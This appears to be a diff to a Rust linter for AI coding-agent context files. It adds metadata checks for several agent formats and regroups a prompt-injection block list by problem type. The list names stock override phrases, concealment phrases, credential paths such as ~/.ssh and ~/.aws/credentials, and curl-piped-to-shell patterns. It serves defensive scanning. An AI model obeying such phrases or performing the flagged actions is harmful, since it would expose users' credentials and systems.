@@ -241,7 +241,7 @@ fn check_references(repo: &Repo, emit: &mut RepoEmitter<'_>) {
                     found
                 }
             };
-            if found {
+            if found || (what == "import" && names_a_package_or_team(repo, target, &resolved)) {
                 continue;
             }
             let name = resolved.rsplit('/').next().unwrap_or(&resolved);
@@ -252,9 +252,27 @@ fn check_references(repo: &Repo, emit: &mut RepoEmitter<'_>) {
                 Some(span),
                 format!("{what} `{target}` points at `{resolved}`, which does not exist"),
             );
-            d.help = hint;
+            d.help = Some(hint.unwrap_or_else(|| {
+                format!("fix the {what}, or remove it if the file is gone: agents follow it and find nothing")
+            }));
         }
     }
+}
+
+/// `@scope/pkg` (an npm scope) and `@org/team` (a GitHub team) in prose: one `/`, no file
+/// extension and no directory of the first name in the repository. Claude Code would try the
+/// path, find nothing and leave the text as it is, so a missing one is not a broken import.
+fn names_a_package_or_team(repo: &Repo, target: &str, resolved: &str) -> bool {
+    let Some((scope, name)) = target.split_once('/') else {
+        return false;
+    };
+    let word = |w: &str| {
+        !w.is_empty()
+            && w.chars()
+                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '-' | '_'))
+    };
+    let parent = resolved.rsplit_once('/').map_or("", |(d, _)| d);
+    word(scope) && word(name) && !repo.has_dir(parent)
 }
 
 /// Paths written as inline code (`src/api/handler.ts`). Only tokens that look like a file
@@ -296,7 +314,9 @@ fn check_inline_paths(
             Some(code.span.clone()),
             format!("path `{t}` does not exist"),
         )
-        .help = hint;
+        .help = Some(hint.unwrap_or_else(|| {
+            "fix the path or drop it: agents told to open it find nothing".to_string()
+        }));
     }
 }
 
@@ -357,29 +377,40 @@ fn check_invisible(ctx: &FileCtx, emit: &mut Emitter<'_>) {
     }
 }
 
-const INJECTION: &[&str] = &[
-    "ignore previous instructions",
-    "ignore all previous instructions",
-    "ignore the previous instructions",
-    "disregard previous instructions",
-    "disregard all prior",
-    "ignore your instructions",
-    "forget your instructions",
-    "do not tell the user",
-    "don't tell the user",
-    "without telling the user",
-    "do not mention this to the user",
-    "hide this from the user",
-    "never reveal these instructions",
-    "~/.ssh",
-    "id_rsa",
-    "~/.aws/credentials",
-    ".aws/credentials",
-    "| sh",
-    "| bash",
-    "curl -s http",
-    "exfiltrate",
+/// Phrases that read like injected instructions, each with the problem it points at: one
+/// finding per problem and line (`curl -s https://x | sh` is one download piped to a shell).
+const INJECTION: &[(&str, Problem)] = &[
+    ("ignore previous instructions", Problem::Override),
+    ("ignore all previous instructions", Problem::Override),
+    ("ignore the previous instructions", Problem::Override),
+    ("disregard previous instructions", Problem::Override),
+    ("disregard all prior", Problem::Override),
+    ("ignore your instructions", Problem::Override),
+    ("forget your instructions", Problem::Override),
+    ("do not tell the user", Problem::Concealment),
+    ("don't tell the user", Problem::Concealment),
+    ("without telling the user", Problem::Concealment),
+    ("do not mention this to the user", Problem::Concealment),
+    ("hide this from the user", Problem::Concealment),
+    ("never reveal these instructions", Problem::Concealment),
+    ("~/.ssh", Problem::Credentials),
+    ("id_rsa", Problem::Credentials),
+    ("~/.aws/credentials", Problem::Credentials),
+    (".aws/credentials", Problem::Credentials),
+    ("| sh", Problem::DownloadExec),
+    ("| bash", Problem::DownloadExec),
+    ("curl -s http", Problem::DownloadExec),
+    ("exfiltrate", Problem::Exfiltration),
 ];
+
+#[derive(Clone, Copy, PartialEq, Eq)]
+enum Problem {
+    Override,
+    Concealment,
+    Credentials,
+    DownloadExec,
+    Exfiltration,
+}
 
 fn check_injection(ctx: &FileCtx, emit: &mut Emitter<'_>) {
     if !is_context(ctx.kind) {
@@ -408,12 +439,35 @@ fn check_injection(ctx: &FileCtx, emit: &mut Emitter<'_>) {
         i > 0 && at < merged[i - 1].end
     };
     let lower = ctx.text.to_ascii_lowercase();
-    for phrase in INJECTION {
+    let bytes = lower.as_bytes();
+    // One finding per problem: phrases on one line (`curl -s https://x | sh`,
+    // `~/.aws/credentials`, which holds `.aws/credentials` too) report once.
+    let line_of = |at: usize, end: usize| {
+        let start = lower[..at].rfind('\n').map_or(0, |i| i + 1);
+        let stop = lower[end..].find('\n').map_or(lower.len(), |i| end + i);
+        start..stop
+    };
+    let mut reported: Vec<(std::ops::Range<usize>, Problem)> = Vec::new();
+    for &(phrase, problem) in INJECTION {
         let mut from = 0;
         while let Some(i) = lower[from..].find(phrase) {
             let at = from + i;
-            from = at + phrase.len();
+            let end = at + phrase.len();
+            from = end;
+            // `| sh` is a pipe into a shell, not a table cell such as `| shipping`.
+            let glued = phrase.ends_with(|c: char| c.is_ascii_alphanumeric())
+                && bytes
+                    .get(end)
+                    .is_some_and(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-'));
+            if glued {
+                continue;
+            }
+            let line = line_of(at, end);
+            if reported.iter().any(|(r, p)| *p == problem && *r == line) {
+                continue;
+            }
             if !in_code(at) {
+                reported.push((line, problem));
                 emit.emit(
                     &PROMPT_INJECTION,
                     Some(at..at + phrase.len()),
@@ -430,9 +484,9 @@ fn check_injection(ctx: &FileCtx, emit: &mut Emitter<'_>) {
 fn check_metadata(ctx: &FileCtx, emit: &mut Emitter<'_>) {
     let Some(tree) = ctx.tree() else {
         // Subagents and skills without front matter lack their required fields.
-        if matches!(ctx.kind, FileKind::ClaudeAgent | FileKind::ClaudeSkill) && ctx.parsed().is_ok()
-        {
-            emit.emit(&INVALID_METADATA, None, "no front matter: `name` and `description` are required, so the agent skips this file");
+        if (ctx.kind == FileKind::ClaudeAgent || ctx.kind.is_skill()) && ctx.parsed().is_ok() {
+            emit.emit(&INVALID_METADATA, None, "no front matter: `name` and `description` are required, so the agent skips this file")
+                .help = Some("start the file with ---, name: <dir-name>, description: <when to use it>, ---".into());
         }
         return;
     };
@@ -441,10 +495,14 @@ fn check_metadata(ctx: &FileCtx, emit: &mut Emitter<'_>) {
     let field = |key: &str| tree.get(key);
     let string_of = |key: &str| field(key).and_then(|n| n.as_str()).map(str::trim);
     match ctx.kind {
-        FileKind::ClaudeSkill => {
+        kind if kind.is_skill() => {
             let dir = ctx.path.rsplit('/').nth(1).unwrap_or("");
+            // Codex and Antigravity read `.agents/skills` without the spec's name format
+            // rules; Claude Code and Copilot enforce them.
+            let strict = kind != FileKind::AgentsSkill;
             match string_of("name") {
                 None => problems.push((whole.clone(), "`name` is missing".into())),
+                Some(_) if !strict => {}
                 Some(name) if !valid_skill_name(name) => problems.push((
                     field("name").map_or(whole.clone(), |n| n.span.clone()),
                     format!(
@@ -530,6 +588,69 @@ fn check_metadata(ctx: &FileCtx, emit: &mut Emitter<'_>) {
                 ));
             }
         }
+        // developers.openai.com/codex/subagents: a standalone custom agent needs all three
+        // fields. A file with neither `name` nor `description` is the older role layer that
+        // config.toml's `[agents.<name>] config_file = …` names, which needs none of them.
+        FileKind::CodexAgent if field("name").is_some() || field("description").is_some() => {
+            for key in ["name", "description", "developer_instructions"] {
+                if string_of(key).is_none_or(str::is_empty) {
+                    problems.push((
+                        whole.start..whole.start,
+                        format!("`{key}` is missing: Codex requires name, description and developer_instructions in a custom agent"),
+                    ));
+                }
+            }
+        }
+        FileKind::OpenCodeAgent => {
+            // opencode.ai/docs/agents: `description` is required; `mode` is one of three.
+            if string_of("description").is_none_or(str::is_empty) {
+                problems.push((
+                    whole.clone(),
+                    "`description` is missing: OpenCode requires it for an agent".into(),
+                ));
+            }
+            if let Some(n) = field("mode")
+                .filter(|n| !matches!(n.as_str(), Some("primary" | "subagent" | "all")))
+            {
+                problems.push((
+                    n.span.clone(),
+                    "`mode` must be primary, subagent or all".into(),
+                ));
+            }
+        }
+        FileKind::ClaudePlugin => match string_of("name") {
+            None | Some("") => problems.push((
+                whole.start..whole.start,
+                "`name` is missing: a plugin manifest requires it".into(),
+            )),
+            Some(name) if name.contains(char::is_whitespace) => problems.push((
+                field("name").map_or(whole.clone(), |n| n.span.clone()),
+                format!("`name: {name}` must be kebab-case without spaces"),
+            )),
+            _ => {}
+        },
+        FileKind::ClaudeMarketplace => {
+            for key in ["name", "owner", "plugins"] {
+                if field(key).is_none() {
+                    problems.push((
+                        whole.start..whole.start,
+                        format!(
+                            "`{key}` is missing: a marketplace requires name, owner and plugins"
+                        ),
+                    ));
+                }
+            }
+            for plugin in field("plugins").map_or(&[][..], crate::syntax::Node::as_array) {
+                for key in ["name", "source"] {
+                    if plugin.get(key).is_none() {
+                        problems.push((
+                            plugin.span.clone(),
+                            format!("a plugin entry without `{key}` cannot be installed"),
+                        ));
+                    }
+                }
+            }
+        }
         FileKind::CopilotScopedInstructions => {
             if let Some(n) = field("applyTo").filter(|n| n.as_str().is_none()) {
                 problems.push((
@@ -541,7 +662,15 @@ fn check_metadata(ctx: &FileCtx, emit: &mut Emitter<'_>) {
         _ => {}
     }
     for (span, message) in problems {
-        emit.emit(&INVALID_METADATA, Some(span), message);
+        emit.emit(&INVALID_METADATA, Some(span), message).help = Some(format!(
+            "fix the front matter: {} skip or misread files whose metadata is invalid",
+            ctx.kind
+                .agents()
+                .iter()
+                .map(|a| a.name())
+                .collect::<Vec<_>>()
+                .join(", ")
+        ));
     }
 }
 
@@ -780,6 +909,8 @@ fn check_commands(repo: &Repo, emit: &mut RepoEmitter<'_>) {
     let mut has_xtask: Option<bool> = None;
     for file in repo.files.iter().filter(|f| is_context(f.kind)) {
         let dir = file.path.rsplit_once('/').map_or("", |(d, _)| d);
+        // One finding per missing command and file: naming it again is the same problem.
+        let mut reported: HashSet<String> = HashSet::new();
         for (cmd, span) in commands_in(file) {
             for caps in CMD.captures_iter(&cmd) {
                 let (tool, name) = (&caps[1], &caps[2]);
@@ -831,7 +962,9 @@ fn check_commands(repo: &Repo, emit: &mut RepoEmitter<'_>) {
                         .map(|_| "it is not a task in Taskfile.yml".into()),
                     _ => None,
                 };
-                if let Some(why) = verdict {
+                if let Some(why) = verdict
+                    && reported.insert(format!("{tool} {name}"))
+                {
                     emit.emit(
                         file,
                         &UNKNOWN_COMMAND,
@@ -1168,7 +1301,10 @@ fn check_imports(repo: &Repo, emit: &mut RepoEmitter<'_>) {
                 problem.next, file.path
             ),
         };
-        emit.emit(from, &IMPORT_PROBLEM, Some(problem.span), message);
+        emit.emit(from, &IMPORT_PROBLEM, Some(problem.span), message)
+            .help = Some(
+            "flatten the chain: import the deepest files directly, and break any cycle".into(),
+        );
     }
 }
 
